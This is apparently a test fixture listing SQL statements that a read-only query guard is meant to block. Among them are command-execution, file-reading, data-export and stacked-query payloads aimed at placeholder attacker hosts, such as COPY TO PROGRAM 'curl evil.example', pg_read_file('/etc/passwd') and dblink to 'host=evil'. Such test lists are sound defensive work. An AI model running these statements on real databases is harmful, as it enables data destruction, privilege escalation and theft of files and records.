INSERT INTO orders VALUES (1)
INSERT INTO orders SELECT * FROM customers
INSERT INTO orders (id) VALUES (1) RETURNING id
UPDATE orders SET total = 0
UPDATE orders SET total = 0 WHERE id = 1 RETURNING *
DELETE FROM orders
DELETE FROM orders WHERE 1 = 1
DELETE FROM orders USING customers WHERE orders.id = customers.id
TRUNCATE TABLE orders
TRUNCATE orders
DROP TABLE orders
DROP TABLE IF EXISTS orders CASCADE
DROP DATABASE shop
DROP SCHEMA public CASCADE
DROP VIEW v
DROP INDEX i
DROP FUNCTION f
DROP USER admin
CREATE TABLE t (a INT)
CREATE TABLE t AS SELECT * FROM orders
CREATE TEMP TABLE t AS SELECT 1
CREATE TEMPORARY TABLE t (a INT)
CREATE OR REPLACE TABLE t AS SELECT 1
CREATE VIEW v AS SELECT * FROM orders
CREATE MATERIALIZED VIEW v AS SELECT * FROM orders
CREATE INDEX i ON orders (id)
CREATE UNIQUE INDEX i ON orders (id)
CREATE DATABASE evil
CREATE SCHEMA evil
CREATE USER evil PASSWORD 'x'
CREATE ROLE evil SUPERUSER
CREATE EXTENSION dblink
CREATE FUNCTION f() RETURNS INT AS 'SELECT 1' LANGUAGE SQL
CREATE TRIGGER t AFTER INSERT ON orders EXECUTE FUNCTION f()
CREATE SEQUENCE s
CREATE EXTERNAL TABLE t STORED AS CSV LOCATION '/etc/passwd'
ALTER TABLE orders ADD COLUMN evil INT
ALTER TABLE orders DROP COLUMN id
ALTER TABLE orders RENAME TO evil
ALTER USER admin PASSWORD 'x'
ALTER ROLE admin SUPERUSER
ALTER SYSTEM SET log_statement = 'none'
ALTER DATABASE shop SET search_path = evil
ALTER SESSION SET x = 1
GRANT ALL ON orders TO evil
GRANT SELECT ON orders TO public
REVOKE ALL ON orders FROM admin
MERGE INTO orders USING customers ON orders.id = customers.id WHEN MATCHED THEN DELETE
MERGE INTO orders AS o USING customers AS c ON o.id = c.id WHEN NOT MATCHED THEN INSERT (id) VALUES (c.id)
REPLACE INTO orders VALUES (1)
COPY orders TO '/tmp/x'
COPY orders FROM '/etc/passwd'
COPY orders TO PROGRAM 'curl evil.example'
COPY (SELECT * FROM orders) TO '/tmp/x'
COPY (SELECT * FROM orders) TO STDOUT
COPY orders FROM PROGRAM 'id'
COPY INTO orders FROM '@stage'
LOAD DATA INFILE '/etc/passwd' INTO TABLE orders
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE orders
LOAD 'evil.so'
UNLOAD ('SELECT * FROM orders') TO 's3://evil'
EXPORT DATA OPTIONS (uri='gs://evil/*.csv') AS SELECT * FROM orders
SET search_path = evil
SET SESSION AUTHORIZATION admin
SET ROLE admin
SET statement_timeout = 0
SET default_transaction_read_only = off
SET TRANSACTION READ WRITE
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
SET GLOBAL general_log = 'ON'
SET @x = 1
SET x = 1
RESET ALL
RESET ROLE
BEGIN
BEGIN TRANSACTION
START TRANSACTION
START TRANSACTION READ WRITE
COMMIT
ROLLBACK
SAVEPOINT s
RELEASE SAVEPOINT s
ROLLBACK TO s
LOCK TABLE orders
LOCK TABLES orders WRITE
UNLOCK TABLES
CALL evil()
EXECUTE evil
EXECUTE IMMEDIATE 'DROP TABLE orders'
PREPARE p AS DELETE FROM orders
PREPARE p FROM 'DELETE FROM orders'
DEALLOCATE p
DECLARE c CURSOR FOR SELECT * FROM orders
FETCH ALL FROM c
CLOSE c
DO 'BEGIN DELETE FROM orders; END'
DO $$ BEGIN DELETE FROM orders; END $$
EXPLAIN SELECT * FROM orders
EXPLAIN ANALYZE DELETE FROM orders
EXPLAIN ANALYZE SELECT * FROM orders
ANALYZE orders
ANALYZE TABLE orders
VACUUM
VACUUM FULL orders
REINDEX TABLE orders
CLUSTER orders
OPTIMIZE TABLE orders
REPAIR TABLE orders
CHECKPOINT
FLUSH TABLES
FLUSH PRIVILEGES
KILL 1
KILL QUERY 1
SHUTDOWN
ATTACH DATABASE 'x.db' AS x
ATTACH 'x.db' AS x
DETACH DATABASE x
PRAGMA writable_schema = 1
PRAGMA table_info(orders)
USE mysql
SHOW TABLES
SHOW GRANTS
SHOW VARIABLES
DESCRIBE orders
DESC orders
LISTEN channel
NOTIFY channel
UNLISTEN *
DISCARD ALL
COMMENT ON TABLE orders IS 'x'
SECURITY LABEL ON TABLE orders IS 'x'
REASSIGN OWNED BY a TO b
REFRESH MATERIALIZED VIEW v
HANDLER orders OPEN
INSTALL PLUGIN evil SONAME 'evil.so'
UNINSTALL PLUGIN evil
INSTALL httpfs
RENAME TABLE orders TO evil
CACHE TABLE orders
UNCACHE TABLE orders
MSCK REPAIR TABLE orders
ADD JAR '/tmp/evil.jar'
PUT file:///etc/passwd @stage
GET @stage file:///tmp
UNDROP TABLE orders
ASSERT 1 = 2
RAISE
IF 1 = 1 THEN DELETE FROM orders; END IF
SELECT 1; SELECT 2
SELECT 1; DROP TABLE orders
SELECT 1;;DELETE FROM orders
; DROP TABLE orders
SELECT 1 /* ; */; DELETE FROM orders
SELECT * INTO evil FROM orders
SELECT * INTO TEMP evil FROM orders
SELECT id INTO TABLE evil FROM orders
SELECT * FROM orders FOR UPDATE
SELECT * FROM orders FOR SHARE
SELECT * FROM orders FOR UPDATE NOWAIT
SELECT * FROM orders FOR UPDATE SKIP LOCKED
SELECT * FROM (SELECT * FROM orders FOR UPDATE) AS x
SELECT * FROM orders WHERE id IN (SELECT id FROM customers FOR UPDATE)
WITH x AS (SELECT * FROM orders FOR UPDATE) SELECT * FROM x
WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x
WITH x AS (INSERT INTO orders VALUES (1) RETURNING *) SELECT * FROM x
WITH x AS (UPDATE orders SET id = 1 RETURNING *) SELECT * FROM x
WITH x AS (SELECT 1) DELETE FROM orders
WITH x AS (SELECT 1) UPDATE orders SET id = 2
WITH x AS (SELECT 1) INSERT INTO orders SELECT * FROM x
WITH a AS (WITH b AS (DELETE FROM orders RETURNING *) SELECT * FROM b) SELECT * FROM a
WITH RECURSIVE r AS (SELECT 1 UNION ALL (DELETE FROM orders RETURNING 1)) SELECT * FROM r
SELECT * FROM (DELETE FROM orders RETURNING *) AS x
SELECT (DELETE FROM orders RETURNING id)
SELECT pg_sleep(10)
SELECT PG_SLEEP(10)
SELECT "pg_sleep"(10)
SELECT pg_catalog.pg_sleep(10)
SELECT sleep(10)
SELECT SLEEP(10) FROM orders
SELECT benchmark(1000000, md5('x'))
SELECT load_file('/etc/passwd')
SELECT * FROM orders WHERE id = load_file('/etc/passwd')
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT pg_stat_file('/etc/passwd')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_get(1)
SELECT lo_create(1)
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a INT)
SELECT dblink_connect('host=evil')
SELECT dblink_exec('DELETE FROM orders')
SELECT query_to_xml('DELETE FROM orders', true, true, '')
SELECT table_to_xml('orders', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT set_config('x', 'y', false)
SELECT current_setting('data_directory')
SELECT nextval('s')
SELECT setval('s', 1)
SELECT currval('s')
SELECT lastval()
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_lock(1)
SELECT pg_notify('c', 'x')
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_logical_emit_message(true, 'x', 'y')
SELECT txid_current()
SELECT pg_file_write('/tmp/x', 'y', false)
SELECT get_lock('x', 10)
SELECT release_lock('x')
SELECT master_pos_wait('x', 1)
SELECT sys_exec('id')
SELECT sys_eval('id')
SELECT load_extension('evil.so')
SELECT readfile('/etc/passwd')
SELECT writefile('/tmp/x', 'y')
SELECT edit('x')
SELECT fts3_tokenizer('x')
SELECT system$cancel_all_queries(1)
SELECT SYSTEM$WAIT(10)
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('/etc/passwd')
SELECT * FROM read_parquet('/etc/passwd')
SELECT * FROM read_json('/etc/passwd')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM parquet_metadata('/etc/passwd')
SELECT * FROM glob('/etc/*')
SELECT * FROM url('http://evil.example', CSV, 'a String')
SELECT * FROM file('/etc/passwd', CSV, 'a String')
SELECT * FROM s3('http://evil.example/x', 'CSV')
SELECT * FROM remote('evil.example', 'system', 'one')
SELECT * FROM mysql('evil.example', 'd', 't', 'u', 'p')
SELECT * FROM postgresql('evil.example', 'd', 't', 'u', 'p')
SELECT * FROM jdbc('x', 'y')
SELECT * FROM executable('id', TabSeparated, 'a String')
SELECT * FROM input('a String')
SELECT * FROM EXTERNAL_QUERY('c', 'SELECT 1')
SELECT reflect('java.lang.Runtime', 'exec')
SELECT java_method('java.lang.System', 'exit')
SELECT evil()
SELECT public.evil()
SELECT shop.evil(1)
SELECT id, evil(id) FROM orders
SELECT * FROM orders ORDER BY evil(id)
SELECT * FROM orders GROUP BY evil(id)
SELECT count(*) FROM orders HAVING evil(1) > 0
SELECT * FROM orders WHERE evil(id) = 1
SELECT * FROM orders JOIN customers ON evil(1) = 1
SELECT * FROM orders LIMIT evil(1)
SELECT sum(id) OVER (ORDER BY evil(id)) FROM orders
SELECT sum(id) FILTER (WHERE evil(id) > 1) FROM orders
SELECT CASE WHEN evil(1) = 1 THEN 1 ELSE 2 END
SELECT coalesce(NULL, evil(1))
SELECT CAST(evil(1) AS INT)
SELECT * FROM evil(1)
SELECT * FROM orders, evil(1)
SELECT * FROM LATERAL evil(1) AS x
SELECT * FROM TABLE(evil(1))
VALUES (evil(1))
SELECT 1 UNION SELECT evil(1)
SELECT EXISTS (SELECT evil(1))
SELECT 1 /*! UNION SELECT 2 */
SELECT /*!50000 1 */
SELECT 1 /*!99999 ; DROP TABLE orders */
SELECT /*M! 1 */
SELECT /*+ SET_VAR(max_execution_time = 0) */ 1
SELECT 1 AS a /*!INTO OUTFILE '/tmp/x' */
SELECT * FROM orders INTO OUTFILE '/tmp/x'
SELECT * FROM orders INTO DUMPFILE '/tmp/x'
SELECT * INTO OUTFILE '/tmp/x' FROM orders
SELECT id INTO @x FROM orders
SELECT @x := 1
SELECT $1
SELECT ?
SELECT :name
SELECT * FROM orders WHERE id = $1
SELECT 'a
SELECT "a
SELECT 1 /*
SELECT (1
SELECT 1)
SELECT
TABLE orders
\copy orders to '/tmp/x'
\! id
SELECT 1 \gexec
SELECT seq.nextval
SELECT x.seq.nextval FROM orders
SELECT * FROM @stage
SELECT * FROM '/etc/passwd'
SELECT * FROM orders FOR XML AUTO
SELECT * FROM orders SETTINGS max_execution_time = 0
SELECT * FROM orders FORMAT CSV
SELECT E'\''
SELECT N'a'
SELECT $$a$$
SELECT $tag$ a $tag$
SELECT - - 1
SELECT --1
HELP
QUIT
SELECT ranK() OVER (ORDER BY total) FROM orders
SELECT weeK(created_at) FROM orders
SELECT "weeK"(created_at) FROM orders
SELECT `weeK`(created_at) FROM orders
